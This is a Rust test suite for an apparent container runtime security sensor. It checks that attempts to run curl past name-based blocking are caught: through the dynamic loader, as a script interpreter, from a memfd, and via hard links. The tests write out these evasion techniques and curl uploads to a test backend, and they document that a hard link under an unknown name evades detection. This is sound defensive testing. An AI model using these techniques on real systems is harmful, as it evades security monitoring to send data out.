//! Ways around the name-based reflex, tried from a test pod under the
//! shipped policies: a dynamic loader running curl, curl as a script's
//! interpreter, curl run from memory (memfd), and a hard link. Each is seen
//! (by the reflex or the brain) and the pod is quarantined, except the hard
//! link under an innocent name, which is a different path: see the README.
mod common;

use std::os::unix::process::ExitStatusExt;

use common::cluster::*;
use common::*;

/// The dynamic loader curl names in its ELF interpreter entry (`.interp`,
/// near the start of the file).
fn loader() -> String {
    let elf = std::fs::read("/usr/bin/curl").unwrap();
    let head = &elf[..elf.len().min(4096)];
    head.split(|b| *b == 0)
        .filter_map(|s| std::str::from_utf8(s).ok())
        .find(|s| s.starts_with('/') && s.contains("/ld-"))
        .expect("curl names its loader")
        .to_string()
}

fn code(st: std::process::ExitStatus) -> Option<i32> {
    st.code().or(st.signal().map(|s| 128 + s))
}

fn alert_for(d: &Daemon, rule: &str, pod: &str) -> serde_json::Value {
    d.wait_for(rule, |e| {
        e["sensor_alert"]["rule"] == rule && e["sensor_alert"]["process"]["pod"]["name"] == pod
    })
}

#[test]
fn loader_script_and_memfd_runs_of_curl_are_caught() {
    if !can_run("loader_script_and_memfd_runs_of_curl_are_caught") {
        return;
    }
    let c = Cluster::new();
    let (backend, _server) = c.backend();
    let via_loader = c.pod("via-loader");
    let via_script = c.pod("via-script");
    let via_memfd = c.pod("via-memfd");
    let daemon = c.daemon(&[&via_loader, &via_script, &via_memfd], &c.state());
    let url = backend.url();

    // 1. ld.so /usr/bin/curl: the kernel execs the loader; the reflex reads
    //    the loader's command line as the loader does and kills it before
    //    curl is mapped, options or not. `curl --version` is nothing the
    //    brain kills: the 137 is the reflex's, and so is the policy event.
    let options: [&[&str]; 5] = [
        &[],
        &["--library-path", "/nonexistent"],
        &["--inhibit-cache"],
        &["--argv0", "x", "--"],
        &["--preload=/nonexistent.so"],
    ];
    for options in options {
        let st = via_loader
            .command(&loader())
            .args(options)
            .args(["/usr/bin/curl", "--version"])
            .stdout(std::process::Stdio::null())
            .status()
            .unwrap();
        assert_eq!(
            code(st),
            Some(137),
            "killed by the reflex ({options:?}): {st:?}"
        );
    }
    let hit = daemon.wait_for("the reflex's event for the loader", |e| {
        body(e, "process_kprobe").is_some_and(|k| {
            k["policy_name"] == "reflex-exfiltration-tools"
                && k["args"][0]["linux_binprm_arg"]["path"]
                    .as_str()
                    .is_some_and(|b| b.contains("/ld-"))
        })
    });
    assert_eq!(hit["process_kprobe"]["action"], "KPROBE_ACTION_SIGKILL");
    // The upload, which the brain reads as well.
    let st = via_loader
        .command(&loader())
        .args(["/usr/bin/curl", "-s", "--max-time", "5", "-d", "x", &url])
        .status()
        .unwrap();
    assert_eq!(code(st), Some(137), "{st:?}");
    // The loader with no program to run is only the loader.
    let st = via_loader
        .command(&loader())
        .arg("--version")
        .stdout(std::process::Stdio::null())
        .status()
        .unwrap();
    assert_eq!(code(st), Some(0), "{st:?}");
    // A program the reflex does not name runs through the loader as ever.
    let st = via_loader
        .command(&loader())
        .args(["/bin/true"])
        .status()
        .unwrap();
    assert_eq!(code(st), Some(0), "{st:?}");
    let a = alert_for(&daemon, "exfiltration-curl-upload", "via-loader");
    assert!(a["sensor_alert"]["process"]["binary"]
        .as_str()
        .unwrap()
        .contains("/ld-"));
    daemon.wait_for("isolated", |e| {
        quarantine_of(e, &via_loader.uid, "node", "isolated")
    });

    // 2. A script whose interpreter line is curl: the kernel runs curl
    //    itself, and the reflex kills it before it runs.
    let dir = TempDir::new();
    let script = dir.path().join("innocent");
    std::fs::write(&script, "#!/usr/bin/curl -K\n").unwrap();
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let st = via_script
        .command(&script.to_string_lossy())
        .args(["-s", "-d", "x", &url])
        .status()
        .unwrap();
    assert_eq!(code(st), Some(137), "the reflex kills the interpreter");
    daemon.wait_for("isolated", |e| {
        quarantine_of(e, &via_script.uid, "node", "isolated")
    });

    // 3. curl copied into a memfd and run with fexecve: no path to name.
    //    It holds a connection open (telnet:// on a stdin that never ends),
    //    so that only the brain's kill ends it before its time limit.
    let py = format!(
        "import os\nfd = os.memfd_create('x')\nos.write(fd, open('/usr/bin/curl', 'rb').read())\nos.execve(fd, ['curl', '-s', '--max-time', '20', 'telnet://{}:{}'], dict(os.environ))\n",
        backend.ip,
        common::pod::PORT
    );
    let started = std::time::Instant::now();
    let st = via_memfd
        .command("/usr/bin/python3")
        .args(["-c", &py])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap()
        .wait()
        .unwrap();
    assert_eq!(code(st), Some(137), "killed by the brain: {st:?}");
    assert!(started.elapsed() < std::time::Duration::from_secs(15));
    let a = alert_for(&daemon, "evasion-memfd-exec", "via-memfd");
    assert!(a["sensor_alert"]["process"]["binary"]
        .as_str()
        .unwrap()
        .starts_with("/memfd:x"));
    daemon.wait_for("isolated", |e| {
        quarantine_of(e, &via_memfd.uid, "node", "isolated")
    });
    for p in [&via_loader, &via_script, &via_memfd] {
        assert_eq!(connect_errno_to(p, &backend), "1", "{} cut off", p.name);
    }
}

/// A hard link is a second name for the same file, and the kernel reports
/// the name that was executed. Named like a harmless tool, the brain's
/// renamed-binary rule catches it when it connects; under a name no rule
/// knows, it is a different path that neither the reflex nor a name rule
/// matches (the README's answer: a read-only root file system, or a policy
/// on `linkat`).
#[test]
fn a_hard_link_is_a_different_path() {
    if !can_run("a_hard_link_is_a_different_path") {
        return;
    }
    let c = Cluster::new();
    let (backend, _server) = c.backend();
    let linker = c.pod("linker");
    let other = c.pod("linker-unnamed");
    let dir = TempDir::new();
    let sleep = dir.path().join("sleep");
    let upload = dir.path().join("upload");
    if std::fs::hard_link("/usr/bin/curl", &sleep).is_err() {
        eprintln!(
            "SKIP a_hard_link_is_a_different_path: the test directory is not on /usr's file system"
        );
        return;
    }
    std::fs::hard_link("/usr/bin/curl", &upload).unwrap();
    let daemon = c.daemon(&[&linker, &other], &c.state());
    let url = backend.url();

    let st = linker
        .command(&sleep.to_string_lossy())
        .args(["-s", "--max-time", "5", &url])
        .status()
        .unwrap();
    let a = alert_for(&daemon, "evasion-renamed-binary", "linker");
    assert_eq!(
        a["sensor_alert"]["process"]["binary"],
        sleep.to_string_lossy().as_ref(),
        "the link's own path ({st:?})"
    );

    let st = other
        .command(&upload.to_string_lossy())
        .args(["-s", "-o", "/dev/null", "--max-time", "5", "-d", "x", &url])
        .status()
        .unwrap();
    assert_eq!(code(st), Some(0), "an unknown name passes the reflex");
    daemon.wait_for("its exec", |e| {
        e["process_exec"]["process"]["binary"] == upload.to_string_lossy().as_ref()
    });
    assert!(
        !daemon
            .events()
            .iter()
            .any(|e| e["sensor_alert"]["process"]["pod"]["name"] == "linker-unnamed"),
        "and no name rule matches it"
    );
}

/// A policy on the loader itself (a way to forbid running programs through
/// it) still holds: the loader's own path is judged first, the program it
/// runs only after.
#[test]
fn a_policy_on_the_loader_itself_still_holds() {
    if !can_run("a_policy_on_the_loader_itself_still_holds") {
        return;
    }
    let dir = TempDir::new();
    let ld = resolved(&loader());
    let file = policy_file(&dir, "p.yaml", &kill_policy("no-direct-loader", &ld));
    let cg = TestCgroup::new();
    let scope = cg.0.to_string_lossy().into_owned();
    let daemon = Daemon::start(&["--policy", &file, "--enforce-cgroup", &scope]);
    let st = cg.command(&loader()).arg("/bin/true").status().unwrap();
    assert_eq!(code(st), Some(137), "{st:?}");
    let e = daemon.wait_for("the policy event", |e| {
        body(e, "process_tracepoint").is_some_and(|t| t["policy_name"] == "no-direct-loader")
    });
    assert_eq!(e["process_tracepoint"]["process"]["binary"], ld.as_str());
    // Programs that load through it as ever run.
    assert_eq!(cg.exit_code("/bin/true"), Some(0));
}
